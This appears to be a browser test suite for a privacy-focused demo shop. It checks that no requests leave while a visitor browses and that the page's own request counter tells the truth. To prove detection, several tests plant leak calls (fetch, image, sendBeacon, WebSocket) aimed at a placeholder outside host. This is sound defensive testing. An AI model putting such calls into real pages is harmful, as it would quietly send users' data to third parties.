import type { Browser, Page } from "playwright";
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from "vitest";
import { launchChromium } from "../browser/rig/launch-chromium.ts";
import { serveDemo, type DemoSite } from "./rig/serve-demo.ts";
import { like, openShop, readOrder, readPanel, waitForOrder } from "./rig/shop-visit.ts";
import { shopOrder } from "./rig/taste-trial.ts";
import { watchNetwork, type NetworkWatch } from "./rig/watch-network.ts";

const SILENCE = { browser: [], worker: [], server: [], elsewhere: [] };
/** Time for a request to show up everywhere that was caused by what happened last. */
const LATE_MS = 700;

let site: DemoSite;
let browser: Browser;
let watch: NetworkWatch;
let page: Page;
beforeAll(async () => {
  site = await serveDemo();
  browser = await launchChromium({ webgpu: false });
});
afterAll(async () => {
  await browser?.close();
  await site?.close();
});
beforeEach(async () => {
  site.isWorkerUnguarded = false;
  watch = await watchNetwork(browser, site);
  page = watch.page;
});
afterEach(() => watch?.close());

/** What the page itself says of requests. */
async function readClaim(): Promise<{ requests: string | undefined; sent: string | null }> {
  const { requests } = await readPanel(page);
  return { requests, sent: await page.textContent('#inkling-status [data-part="sent"]') };
}

test("no request of any kind leaves home, product and cart while they are used", async () => {
  await openShop(page, site, { interactions: 0 });
  watch.clear();
  for (const [i, id] of [shopOrder[3]!, shopOrder[120]!, shopOrder[299]!].entries()) {
    await like(page, id);
    await waitForOrder(page, i + 1);
  }
  await page.click('#compare [value="shop"]');
  await page.click('#compare [value="yours"]');
  await page.click('#filters [value="lamps"]');
  await page.click('#filters [value=""]');
  for (let y = 0; y <= 1; y += 0.1) {
    await page.evaluate((part) => scrollTo(0, part * document.body.scrollHeight), y);
  }
  await page.click("#forget-me");
  await waitForOrder(page, 0);
  await like(page, shopOrder[50]!);
  await waitForOrder(page, 1);
  await page.waitForTimeout(LATE_MS);
  expect(watch.seen).toEqual(SILENCE);
  expect(await readClaim()).toEqual({ requests: "0", sent: "0 bytes sent" });

  await page.goto(`${site.url}product.html?id=${shopOrder[8]!}`);
  await waitForOrder(page, 1);
  watch.clear();
  await page.click("#add-to-cart");
  await waitForOrder(page, 2);
  await page.click(".related .card-more >> nth=0");
  await waitForOrder(page, 3);
  await page.waitForTimeout(LATE_MS);
  expect(watch.seen).toEqual(SILENCE);
  expect(await readClaim()).toEqual({ requests: "0", sent: "0 bytes sent" });

  await page.goto(`${site.url}cart.html`);
  await waitForOrder(page, 3);
  watch.clear();
  await page.click('.stepper [aria-label="One more"]');
  await page.click("#checkout");
  await page.waitForTimeout(LATE_MS);
  expect(watch.seen).toEqual(SILENCE);
  expect(await readClaim()).toEqual({ requests: "0", sent: "0 bytes sent" });
});

test("pages ask for the same whatever was learned, so that asking tells nothing", async () => {
  const loads: string[][] = [];
  for (const likes of [[shopOrder[200]!, shopOrder[201]!], []]) {
    await openShop(page, site, { interactions: loads.length === 0 ? 0 : 2 });
    await page.waitForTimeout(LATE_MS);
    loads.push([...watch.seen.server].sort());
    for (const [i, id] of likes.entries()) {
      await like(page, id);
      await waitForOrder(page, i + 1);
    }
    watch.clear();
  }

  expect(await readOrder(page)).not.toEqual(shopOrder);
  expect(loads[0]).toContain("/inkling/model.json");
  expect(loads[1]).toEqual(loads[0]);
});

const ELSEWHERE = "http://elsewhere.example/leak";
const plants = [
  ["fetch to the shop", { claimed: "1", seen: ["browser", "server"] }, () => void fetch("./leak")],
  [
    "fetch elsewhere",
    { claimed: "1", seen: ["browser", "elsewhere"] },
    (url: string) => void fetch(url).catch(() => 0),
  ],
  [
    "picture",
    { claimed: "1", seen: ["browser", "elsewhere"] },
    (url: string) => void (new Image().src = url),
  ],
  [
    "beacon",
    { claimed: "1", seen: ["browser", "elsewhere"] },
    (url: string) => void navigator.sendBeacon(url, "x"),
  ],
  // Browsers do not report sockets to pages: the panel says what it cannot see, the watchers see it.
  [
    "web socket",
    { claimed: "0", seen: ["browser", "elsewhere"] },
    (url: string) => void new WebSocket(url.replace("http", "ws")),
  ],
] as const;

test.each(plants)("a planted %s is seen, and the page's own claim follows", async (_, expected, leak) => {
  await openShop(page, site, { interactions: 0 });
  watch.clear();

  await page.evaluate(leak as (url: string) => void, ELSEWHERE);

  await page.waitForTimeout(LATE_MS);
  const seenBy = Object.entries(watch.seen).filter(([, urls]) =>
    urls.some((url) => /leak|elsewhere/.test(url)),
  );
  expect(seenBy.map(([name]) => name)).toEqual(expected.seen);
  const { requests, sent } = await readClaim();
  expect(requests).toBe(expected.claimed);
  if (requests !== "0") expect(sent).toContain("1 request sent");
});

test.each([
  ["with its policy nothing gets out of", false, "engine", { server: 0, elsewhere: 0 }],
  [
    "without its policy the network that it has removed stays out of reach of",
    true,
    "engine",
    { server: 0, elsewhere: 0 },
  ],
  ["without either all watchers see", true, "other", { server: 1, elsewhere: 2 }],
] as const)("%s a worker that wants to leak", async (_, isWorkerUnguarded, kind, expected) => {
  site.isWorkerUnguarded = isWorkerUnguarded;
  await openShop(page, site, { interactions: 0 });
  const [engine] = page.workers();
  const other = page.waitForEvent("worker");
  await page.evaluate((code) => {
    (window as { other?: Worker }).other = new Worker(URL.createObjectURL(new Blob([code])));
  }, "self.isOther = true;");
  const worker = kind === "engine" ? engine! : await other;
  watch.clear();

  await worker.evaluate(
    async (urls) => {
      const attempts = [
        () => fetch(urls.shop),
        () => fetch(urls.elsewhere),
        () => new WebSocket(urls.elsewhere.replace("http", "ws")),
      ];
      for (const attempt of attempts) {
        try {
          await attempt();
        } catch {
          // a policy may throw here, and so does what is not there
        }
      }
    },
    { shop: `${site.url}leak`, elsewhere: ELSEWHERE },
  );

  await page.waitForTimeout(LATE_MS);
  const { worker: protocol, server, elsewhere } = watch.seen;
  expect({ server: server.length, elsewhere: elsewhere.length }).toEqual(expected);
  if (kind === "other") expect(protocol).toHaveLength(3);
});
